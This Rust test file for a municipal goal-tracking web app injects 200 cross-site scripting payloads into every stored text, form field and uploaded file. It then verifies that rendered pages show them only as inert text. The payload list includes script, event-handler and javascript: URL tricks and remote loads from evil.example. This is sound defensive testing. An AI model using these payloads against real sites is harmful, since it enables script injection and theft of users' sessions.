//! Text that people typed is text on every page, whatever it looks like (limits S8).
//!
//! Two hundred payloads are put into every text of the archive and of every form, and every page that shows them is read as a
//! browser reads it: nothing but what our own pages are made of may stand there.

use crate::app::{Browser, Reply, TestApp};
use crate::html::{Part, parts};
use crate::texts::{rewrite, signed_in};
use axum::http::StatusCode;
use domain::actor::Actor;
use domain::exchange::{Archive, ContributionRow, JudgementRow, TargetRow};
use domain::indicator::AimKind;
use domain::period::Period;
use domain::status::Status;
use server::routes::{Access, Route};

/// What leads out of the place where a text may have been put.
const OUT: [&str; 5] = ["", "\">", "' ", "</textarea></title></option></select>", "-->]]></svg></style></script>"];

/// What must not come alive.
const ALIVE: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<img src=x onerror=alert(3)>",
    "<img/src=`x`onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert&#40;6)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(8)\"><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(9)></foreignObject></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(10)</script>\">",
    "<iframe src=\"javascript:alert(11)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(12)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(13)</script>\">",
    "<embed src=\"//evil.example/x.swf\">",
    "<base href=\"//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(18)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(21)>x</button>",
    "<input autofocus onfocus=alert(22)>",
    "<select onchange=alert(23)><option>1</select>",
    "<textarea onfocus=alert(24) autofocus></textarea>",
    "<details open ontoggle=alert(25)>",
    "<video><source onerror=alert(26)></video>",
    "<audio src onloadstart=alert(27)>",
    "<marquee onstart=alert(28)>x</marquee>",
    "<a href=\"javascript:alert(29)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(30)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<template><script>alert(32)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(33)>\">",
    "<!--><img src=x onerror=alert(34)>-->",
    "<![CDATA[<script>alert(35)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(36)</script>",
    "\" onmouseover=\"alert(37)\" x=\"",
    "' onmouseover='alert(38)' x='",
    "javascript:alert(39)",
    "&lt;script&gt;alert(40)&lt;/script&gt; {{7*7}} ${7*7} %00 \u{202e}",
];

/// Every payload, in bundles: each is small enough to be read, and together they hold all two hundred.
const BUNDLES: usize = 10;

fn payloads() -> Vec<String> {
    OUT.iter().flat_map(|out| ALIVE.iter().map(move |alive| format!("{out}{alive}"))).collect()
}

/// The bundle with this number, counted round.
fn bundle(number: usize) -> String {
    payloads().iter().skip(number % BUNDLES).step_by(BUNDLES).map(String::as_str).collect::<Vec<_>>().join(" ")
}

/// Elements that our pages are made of.
const OURS: [&str; 80] = [
    "html",
    "head",
    "meta",
    "title",
    "link",
    "script",
    "body",
    "main",
    "header",
    "footer",
    "nav",
    "section",
    "article",
    "aside",
    "div",
    "span",
    "p",
    "a",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "h1",
    "h2",
    "h3",
    "h4",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "form",
    "fieldset",
    "legend",
    "label",
    "input",
    "textarea",
    "select",
    "option",
    "optgroup",
    "button",
    "details",
    "summary",
    "kbd",
    "strong",
    "em",
    "b",
    "i",
    "small",
    "time",
    "abbr",
    "code",
    "pre",
    "br",
    "hr",
    "figure",
    "figcaption",
    "svg",
    "g",
    "path",
    "line",
    "rect",
    "circle",
    "polyline",
    "polygon",
    "text",
    "desc",
    "defs",
    "pattern",
    "mark",
    "blockquote",
    "dialog",
    "del",
    "ins",
    "leptos-island",
];

/// What the tokeniser says of `<!>`.
const EMPTY_COMMENT: &str = "Saw ! in state MarkupDeclarationOpen";

/// What is alive on a page and is not ours: elements, handlers, addresses that lead away, markup left open.
fn strange(page: &str) -> Vec<String> {
    parts(page).iter().filter_map(strange_part).collect()
}

fn strange_part(part: &Part) -> Option<String> {
    match part {
        Part::Start(name, _)
            if name == "script" && part.attribute("src").is_none_or(|at| !at.starts_with("/assets/")) =>
        {
            Some(format!("a script: {part:?}"))
        }
        Part::Start(name, attributes) => {
            let is_ours = OURS.contains(&name.as_str());
            let bad = attributes.iter().find(|(name, value)| is_strange_attribute(name, value));
            (!is_ours || bad.is_some()).then(|| format!("{part:?}"))
        }
        // Leptos marks places with empty comments, as short as they can be written, and what is nothing with one that says so.
        Part::Fault(what) if what == EMPTY_COMMENT => None,
        Part::Comment(text) if !["", "<() />"].contains(&text.as_str()) => Some(format!("a comment: {text}")),
        Part::Fault(what) => Some(format!("broken markup: {what}")),
        Part::End(_) | Part::Text(_) | Part::Comment(_) => None,
    }
}

fn is_strange_attribute(name: &str, value: &str) -> bool {
    let leads = ["href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset"].contains(&name);
    let is_own = value.starts_with(['/', '#', '?']) && !value.starts_with("//") && !value.starts_with("/\\");
    let is_known = value.starts_with("https://") && !value.contains("evil.example");
    let is_plain = name.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"-:".contains(&byte));
    name.starts_with("on")
        || ["style", "srcdoc", "http-equiv"].contains(&name)
        || (!is_plain && !["viewBox", "preserveAspectRatio", "patternUnits"].contains(&name) && name != "viewbox")
        || (leads && !is_own && !is_known)
}

fn check(reply: &Reply, place: &str) {
    let kind = reply.headers.get("content-type").map(|kind| kind.to_str().unwrap()).unwrap_or_default();
    if kind.starts_with("text/html") {
        let found = strange(&reply.body);
        assert!(found.is_empty(), "{place}: {found:#?}");
    }
    assert_eq!(reply.headers["x-content-type-options"], "nosniff", "{place}");
    assert!(!reply.status.is_server_error(), "{place}: {}", reply.status);
}

/// The columns that hold text that somebody wrote.
const TEXTS: [&str; 31] = [
    "name",
    "short_name",
    "source",
    "name_sv",
    "name_en",
    "title",
    "for_whom",
    "change",
    "why",
    "seen_how",
    "accountable_title",
    "paragraph",
    "registry_number",
    "closing_paragraph",
    "closing_registry_number",
    "text",
    "sentence",
    "by_role",
    "description",
    "category",
    "unit_of_measure",
    "no_direction_reason",
    "method",
    "owner_title",
    "note",
    "reason",
    "label",
    "what",
    "effect",
    "because",
    "lesson",
];

/// The sample's archive with something of every kind, poisoned.
async fn poisoned() -> Archive {
    let app = TestApp::with_sample().await;
    let mut archive = app.store.export_archive(&Actor::System).await.unwrap();
    let day = app.state.today();
    let (goals, indicators) = (archive.goals.clone(), archive.indicators.clone());
    for goal in goals.iter().take(BUNDLES) {
        let (goal, unit, text) = (goal.external_id.clone(), archive.units[2].external_id.clone(), String::new());
        archive.contributions.push(ContributionRow { id: None, goal: goal.clone(), unit, text, stated_on: day });
        archive.judgements.push(JudgementRow {
            id: None,
            goal,
            status: Status::Met,
            suggested: Status::OnTrack,
            sentence: String::new(),
            judged_on: day,
            by_role: String::new(),
            by_person: String::new(),
        });
    }
    for (year, indicator) in (2031..).zip(indicators.iter().take(BUNDLES)) {
        let (indicator, period, text, note) =
            (indicator.external_id.clone(), Period::Year(year), String::new(), String::new());
        archive.targets.push(TargetRow {
            id: None,
            indicator,
            period,
            aim: AimKind::Text,
            value: None,
            text,
            interim: false,
            note,
        });
    }
    let unit = archive.units[2].external_id.clone();
    archive.goals.iter_mut().for_each(|goal| unit.clone_into(&mut goal.accountable_unit));
    archive.indicators.iter_mut().for_each(|indicator| unit.clone_into(&mut indicator.owner_unit));
    archive.events.clear();
    rewrite(&mut archive, &TEXTS, |place| {
        // A table with few rows has all of them in each.
        if place.rows < BUNDLES { (0..BUNDLES).map(bundle).collect() } else { bundle(place.row) }
    });
    archive
}

/// A Verkan full of payloads, and those who read it.
struct Poisoned {
    #[expect(dead_code, reason = "the database lasts as long as it")]
    app: TestApp,
    readers: Vec<(&'static str, Browser)>,
}

impl Poisoned {
    async fn new() -> Self {
        let app = TestApp::empty().await;
        app.store.import_archive(&Actor::System, poisoned().await).await.unwrap();
        let mut readers = vec![("nobody", app.browser())];
        for mailbox in ["controller", "administrator", "sekreterare"] {
            readers.push((mailbox, signed_in(&app, mailbox).await));
        }
        Self { app, readers }
    }

    fn reader(&self, name: &str) -> Browser {
        self.readers.iter().find(|(known, _)| *known == name).unwrap().1.clone()
    }

    /// The addresses that stand for a path: objects enough to meet every bundle.
    async fn addresses(&self, path: &str) -> Vec<String> {
        let numbers = if path.contains('{') { 1..=10 } else { 1..=1 };
        let mut addresses = Vec::new();
        for number in numbers {
            let filled = path.replace("{file}", "goals.json").replace("{measurement}", &(number * 3).to_string());
            let segments =
                filled.split('/').map(|part| if part.starts_with('{') { number.to_string() } else { part.to_owned() });
            addresses.push(segments.collect::<Vec<_>>().join("/"));
        }
        addresses
    }
}

#[test]
fn what_is_alive_is_seen() {
    assert_eq!(payloads().len(), 200);
    for payload in ALIVE.iter().filter(|payload| payload.starts_with('<')) {
        assert!(!strange(&format!("<p>{payload}</p>")).is_empty(), "{payload}");
    }
    for payload in ["x\" onmouseover=\"alert(37)", "javascript:alert(39)", "//evil.example/", " /goals"] {
        assert!(!strange(&format!("<a href=\"{payload}\">x</a>")).is_empty(), "{payload}");
    }
    assert_eq!(strange("<p class=\"a\">&lt;script&gt;<!----><a href=\"/goals?a=b\">x</a></p>"), Vec::<String>::new());
}

/// Whether this reader sees something on the page that others do not.
fn concerns(reader: &str, route: &Route) -> bool {
    match reader {
        "nobody" => route.access == Access::Public,
        "administrator" => route.path.starts_with("/administration"),
        "sekreterare" => route.path.ends_with("/decision") || route.path.ends_with("/closing"),
        _ => true,
    }
}

#[tokio::test]
async fn every_page_shows_stored_text_as_text() {
    let poisoned = Poisoned::new().await;
    let mut seen = 0;
    for route in server::route_table().into_iter().filter(|route| route.method == "GET") {
        for address in poisoned.addresses(route.path).await {
            for (name, reader) in poisoned.readers.iter().filter(|(name, _)| concerns(name, &route)) {
                let reply = reader.clone().get(&address).await;
                check(&reply, &format!("{address} as {name}"));
                seen += usize::from(reply.status == StatusCode::OK && reply.body.contains("alert("));
            }
        }
    }
    for number in 0..BUNDLES {
        let query = app::link::with_query("/search", &[("q", &bundle(number)), ("kind", &bundle(number))]);
        check(&poisoned.reader("nobody").get(&query).await, "search");
    }
    assert!(seen > 100, "{seen} pages showed payloads");
}

/// Forms, each with the names of its fields of text and what else it needs; the last word says whose it is.
const FORMS: [(&str, &[&str], &[(&str, &str)], &str); 19] = [
    ("/sign-in", &["email", "next"], &[], "nobody"),
    ("/language", &["locale", "next"], &[], "nobody"),
    (
        "/goals",
        &["title", "for_whom", "change", "why", "seen_how", "accountable_title", "from", "to", "level"],
        &[],
        "controller",
    ),
    ("/goals/1", &["title", "why", "parents", "given_to", "serves"], &[("version", "1")], "controller"),
    ("/goals/1/contributions", &["text", "unit"], &[], "controller"),
    ("/goals/1/judgements", &["sentence", "status", "seen"], &[], "controller"),
    ("/goals/1/decision", &["paragraph", "registry_number", "decided_on"], &[], "sekreterare"),
    (
        "/indicators",
        &["name", "description", "category", "unit_of_measure", "source", "method", "owner_title", "kolada_id", "low"],
        &[],
        "controller",
    ),
    ("/indicators/1/targets", &["text", "note", "period", "value"], &[("aim", "text")], "controller"),
    ("/indicators/1/measurements", &["period", "value", "source", "note", "sex", "comparison"], &[], "controller"),
    ("/comparisons", &["name", "kolada_code", "group_year"], &[("kind", "group")], "controller"),
    ("/comparisons/1", &["name", "kolada_code", "group_year"], &[("kind", "group")], "controller"),
    (
        "/activities",
        &["title", "what", "accountable_title", "from", "to", "cost", "hours", "effect", "by_when", "because", "goal"],
        &[],
        "enhet",
    ),
    ("/organisation/units/1/approval", &["reason", "to"], &[], "direktor"),
    ("/organisation/units", &["name", "short_name", "external_id", "from", "to", "kind"], &[], "controller"),
    ("/administration/levels", &["name_sv", "name_en", "position"], &[], "controller"),
    ("/administration/themes", &["name_sv", "name_en"], &[], "controller"),
    ("/administration/municipality", &["name", "short_name", "code", "source"], &[], "controller"),
    ("/administration/people", &["name", "email", "external_id"], &[], "administrator"),
];

#[tokio::test]
async fn every_form_shows_what_was_typed_as_text() {
    let app = TestApp::with_sample().await;
    for (address, fields, rest, reader) in FORMS {
        let mut reader = if reader == "nobody" { app.browser() } else { app.signed_in(reader).await };
        for number in 0..BUNDLES {
            let text = bundle(number);
            let form: Vec<(&str, &str)> =
                fields.iter().map(|name| (*name, text.as_str())).chain(rest.iter().copied()).collect();
            let reply = reader.post(address, &form).await;
            check(&reply, &format!("{address} {number}"));
            assert!(reply.body.contains("alert(") || reply.status != StatusCode::UNPROCESSABLE_ENTITY, "{address}");
        }
    }
}

#[tokio::test]
async fn what_is_saved_shows_as_text_in_what_was_changed_too() {
    let poisoned = Poisoned::new().await;
    let mut controller = poisoned.reader("controller");
    let (mut saved, mut version) = (0, 1);
    for (number, payload) in payloads().iter().enumerate() {
        let seen = version.to_string();
        let form = [("version", seen.as_str()), ("kind", "value"), ("name_sv", payload), ("name_en", payload)];
        let address = if number == 0 { "/administration/themes" } else { "/administration/themes/1" };
        let reply = controller.post(address, &form).await;
        let is_saved = reply.status == StatusCode::SEE_OTHER;
        saved += usize::from(is_saved);
        version += i32::from(is_saved && number > 0);
        check(&reply, payload);
    }
    assert!(saved > 100, "{saved} names were short enough");
    let mut next = Some("/trail".to_owned());
    let mut pages = 0;
    while let Some(address) = next.take().filter(|_| pages < 12) {
        let page = controller.get(&address).await;
        check(&page, &address);
        pages += 1;
        let links = page.body.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next());
        next = links
            .map(|link| link.replace("&amp;", "&"))
            .find(|link| link.starts_with("/trail") && link.contains("before="));
    }
    assert!(pages >= 3, "{pages} pages of the trail");
}

#[tokio::test]
async fn files_and_their_names_show_as_text() {
    let poisoned = Poisoned::new().await;
    let mut controller = poisoned.reader("controller");
    let mut table = String::from("indikator;period;värde;källa\n");
    for payload in payloads() {
        let cell = format!("\"{}\"", payload.replace('"', "\"\""));
        table.push_str(&[cell.as_str(); 4].join(";"));
        table.push('\n');
        let reply = controller
            .upload("/imports/new", &format!("{payload}.csv"), b"indikator;period;v\xe4rde\nx;2024;1\n")
            .await;
        let review = controller.get(reply.location()).await;
        assert!(review.status == StatusCode::OK && review.body.contains(".csv"), "{payload}: {}", review.status);
        check(&review, &payload);
    }
    for content in [table.as_bytes(), table.replacen("indikator", "<script>alert(1)</script>", 1).as_bytes()] {
        let reply = controller.upload("/imports/new", "alla.csv", content).await;
        let review = controller.get(reply.location()).await;
        assert!(review.body.contains("alert("), "{}", review.body);
        check(&review, "the cells");
    }
    let answer = format!(
        "{{\"values\":[{{\"kpi\":{0},\"municipality\":{0},\"period\":2011,\"values\":[]}}]}}",
        serde_json::json!(bundle(1))
    );
    let reply = controller.upload("/imports/new", "svar.json", answer.as_bytes()).await;
    check(&controller.get(reply.location()).await, "an answer of Kolada");
}
